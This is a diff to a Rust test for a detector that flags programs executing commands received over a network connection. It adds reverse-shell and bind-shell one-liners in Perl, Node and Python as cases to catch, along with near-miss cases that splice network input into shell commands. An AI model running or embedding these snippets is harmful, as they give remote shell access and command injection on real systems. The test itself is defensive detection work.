@@ -164,6 +164,11 @@ fn programs_that_execute_what_comes_from_a_connection() {
         ),
         (Python, "import socket\ns=socket.socket();s.connect(('h',1))\nexec(s.makefile().read())"),
         (Perl, "use IO::Socket; $c=IO::Socket::INET->new(\"h:1\");while(<$c>){print $c `$_`;}"),
+        (
+            Perl,
+            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton('h')));while(<S>){print S `$_`}",
+        ),
+        (Perl, "socket(my $l,2,1,6);listen($l,1);accept(my $c,$l);while(my $x=<$c>){system $x}"),
         (Perl, "$c=IO::Socket::INET->new(PeerAddr=>\"h:1\");while(my $l=<$c>){eval $l}"),
         (Ruby, "c=TCPSocket.new(\"h\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end"),
         (Php, "<?php $s=fsockopen(\"h\",1);while(!feof($s)){fwrite($s,shell_exec(fgets($s)));}"),
@@ -175,6 +180,14 @@ fn programs_that_execute_what_comes_from_a_connection() {
         (
             Node,
             "const net=require('net');const c=net.connect(1,'h');c.on('data',d=>{c.write(String(eval(d.toString())))})",
+        ),
+        (
+            Node,
+            "const n=require('net'),p=require('child_process');const c=n.connect(1,'h');c.on('data',d=>p.exec(d.toString(),(e,o)=>c.write(o)));",
+        ),
+        (
+            Python,
+            "import socket,subprocess\ns=socket.create_connection((\"h\",1))\nsubprocess.run('timeout 9 '+s.recv(99).decode(),shell=True)",
         ),
         (
             Lua,
@@ -189,6 +202,18 @@ fn programs_that_execute_what_comes_from_a_connection() {
     let missed: Vec<_> = cases.into_iter().filter(|(family, text)| !verdict(*family, text).network).collect();
     assert!(missed.is_empty(), "{missed:#?}");
     let quiet = [
+        (
+            Python,
+            "import socket,os\ns=socket.create_connection((\"h\",1))\nos.system('git pull '+s.recv(99).decode())",
+        ),
+        (
+            Python,
+            "import socket,os\ns=socket.create_connection((\"h\",1))\nname=s.recv(99)\nos.popen(f'convert {name} x.png')",
+        ),
+        (
+            Node,
+            "const n=require('net'),p=require('child_process');const c=n.connect(1,'h');c.on('data',d=>{console.log(d);p.exec('date',(e,o)=>c.write(o))});",
+        ),
         (
             Python,
             "import socket,platform,subprocess\ns=socket.create_connection((\"h\",1))\nprint(subprocess.getoutput(\"uname -p\"))",
